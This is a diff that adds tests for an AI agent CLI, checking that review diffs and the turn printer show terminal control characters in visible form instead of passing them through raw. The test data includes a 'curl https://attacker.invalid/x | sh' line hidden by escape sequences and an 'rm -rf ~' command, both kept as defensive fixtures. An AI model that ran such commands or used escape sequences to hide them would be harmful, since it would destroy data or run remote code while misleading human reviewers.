@@ -20,6 +20,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { PassThrough } from 'node:stream'
 import { after, test } from 'node:test'
+import { TurnPrinter } from '../../src/cli/agent/printer.js'
 import { finishReview, startReview } from '../../src/cli/agent/review.js'
 import { createEngine } from '../../src/engine/index.js'
 import { python } from '../sessions/helpers.js'
@@ -59,7 +60,23 @@ test("a review's diff reaches the terminal without raw control sequences from th
       [],
       `the review printed raw control characters from a sandbox-written file:\n${JSON.stringify(shown)}`,
     )
+    // The person sees the line and what it tried: the CR and the escape sequences, made visible.
+    assert.match(shown, /\+curl https:\/\/attacker\.invalid\/x \| sh\\r\^\[\[2K\^\[\[1A/)
   } finally {
     await engine.close()
   }
+})
+
+test("the turn printer shows a block's control characters and keeps its newlines and tabs", () => {
+  const out = new PassThrough()
+  const err = new PassThrough()
+  let shown = ''
+  out.on('data', (b) => {
+    shown += String(b)
+  })
+  const p = new TurnPrinter(out, err)
+  p.on({ type: 'block.started', code: "print('x')" } as never)
+  p.on({ type: 'block.output', data: 'a\tb\nrm -rf ~\r\x1b[2K\x1b]0;title\x07ok\x9b\n' } as never)
+  assert.match(shown, /a\tb\nrm -rf ~\\r\^\[\[2K\^\[\]0;title\^Gok\\x9b\n/)
+  assert.doesNotMatch(shown, /[\r\x1b\x07\x9b]/)
 })
